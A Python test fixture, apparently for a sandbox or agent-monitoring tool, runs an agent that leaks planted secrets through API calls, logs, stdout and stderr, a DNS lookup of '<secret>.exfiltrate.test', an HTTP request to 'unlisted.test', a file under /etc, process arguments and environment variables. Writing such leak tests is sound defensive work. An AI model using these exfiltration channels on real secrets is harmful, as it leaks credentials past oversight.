# SPDX-License-Identifier: Apache-2.0
"""A sandboxed agent that lets secrets slip wherever it can. Its argument is a file of JSON: place -> words with a secret in them."""

import contextlib
import json
import os
import socket
import subprocess
import sys
import urllib.request

import openai


def ask(client: openai.OpenAI, **request: object) -> None:
    try:
        reply = client.chat.completions.create(**{"model": "gpt-4o-mini", **request})  # type: ignore[call-overload]
        for _ in reply if request.get("stream") else ():
            pass
    except openai.APIError as refused:
        print(f"refused: {type(refused).__name__}")


def main() -> None:
    said = json.loads(SECRETS)  # noqa: F821  (put in front of this file)
    client = openai.OpenAI(max_retries=0)
    user = [{"role": "user", "content": "hello"}]
    ask(client, messages=[{"role": "user", "content": said["sandbox prompt"]}])
    ask(client, messages=user, stream=True, tools=[{"type": "function", "function": {"name": "f", "description": said["sandbox tool"]}}])
    ask(client, messages=user, model=said["sandbox model"])
    print("printed " + said["sandbox stdout"], flush=True)
    print("printed " + said["sandbox stderr"], file=sys.stderr, flush=True)
    log = {"level": "info", "message": "said " + said["sandbox log"], "fields": {"key": said["sandbox log field"], said["sandbox log name"]: "x"}}
    body = json.dumps({"events": [{"agent_log": log}]}).encode()
    base = os.environ["OPENAI_BASE_URL"].removesuffix("/v1")
    request = urllib.request.Request(base + "/aispm/v1/agent-events", body, {"content-type": "application/json", "authorization": "Bearer x"})
    with contextlib.suppress(OSError):
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10).read()
    for name in ("sandbox name", "sandbox label"):
        with contextlib.suppress(OSError, UnicodeError):
            socket.getaddrinfo(said[name] + ".exfiltrate.test", 443)
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://unlisted.test/" + said["sandbox path"], timeout=5).read()
    with contextlib.suppress(OSError):
        open("/etc/" + said["sandbox file"], "w").close()
    subprocess.run(["/bin/echo", said["sandbox argv"]], check=False, stdout=subprocess.DEVNULL)
    subprocess.run(["/bin/true"], check=False, env={"TOKEN": said["sandbox environment"]})


if __name__ == "__main__":
    main()
